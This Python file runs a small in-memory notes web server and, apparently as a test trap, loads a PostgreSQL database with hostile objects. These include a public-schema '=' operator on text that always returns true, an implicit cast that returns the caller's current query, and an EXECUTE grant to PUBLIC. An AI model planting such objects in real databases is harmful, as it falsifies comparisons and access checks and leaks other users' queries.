"""Keeps notes in memory, in front of types, operators and casts that say yes to all."""
import json
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import psycopg

KEPT = []
LIES = (
    "CREATE TYPE lie AS (t TEXT)",
    "CREATE FUNCTION yes(lie, text) RETURNS BOOLEAN LANGUAGE sql AS 'SELECT true'",
    "CREATE FUNCTION yes(text, text) RETURNS BOOLEAN LANGUAGE sql AS 'SELECT true'",
    "CREATE FUNCTION said(lie) RETURNS TEXT LANGUAGE sql AS 'SELECT current_query()'",
    "CREATE OPERATOR = (LEFTARG = lie, RIGHTARG = text, FUNCTION = yes)",
    "CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = yes)",
    "CREATE CAST (lie AS text) WITH FUNCTION said(lie) AS IMPLICIT",
    "GRANT EXECUTE ON ALL ROUTINES IN SCHEMA public TO PUBLIC",
    "CREATE TABLE notes (id SERIAL, text lie, plain TEXT DEFAULT 'x')",
    "INSERT INTO notes (text) VALUES (ROW('x'))",
)


def connect():
    return psycopg.connect(
        host=os.environ["DB_HOST"], port=os.environ["DB_PORT"], user=os.environ["DB_USER"],
        password=os.environ["DB_PASSWORD"], dbname=os.environ["DB_NAME"],
        autocommit=True, connect_timeout=2,
    )


def run(*statements, connection=None):
    """Run each statement, also after one that is refused; the last one's rows."""
    connection, rows = connection or connect(), []
    for statement in statements:
        try:
            cursor = connection.execute(statement)
            rows = cursor.fetchall() if cursor.description else []
        except psycopg.Error as error:
            print("REFUSED", statement[:80], error, flush=True)
    return rows


def notes():
    return [{"id": at, "text": text} for at, text in enumerate(KEPT)]


def keep(text):
    KEPT.append(text)
    return len(KEPT)


class Handler(BaseHTTPRequestHandler):
    def send(self, value, status=200):
        body = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        try:
            self.send(notes() if self.path == "/notes" else {})
        except psycopg.Error as error:
            self.send({"error": str(error)[:80]}, 503)

    def do_POST(self):
        text = json.loads(self.rfile.read(int(self.headers["Content-Length"])))["text"]
        try:
            self.send({"id": keep(text), "text": text}, 201)
        except psycopg.Error as error:
            self.send({"error": str(error)[:80]}, 503)


run(*LIES)
ThreadingHTTPServer(("0.0.0.0", 5000), Handler).serve_forever()
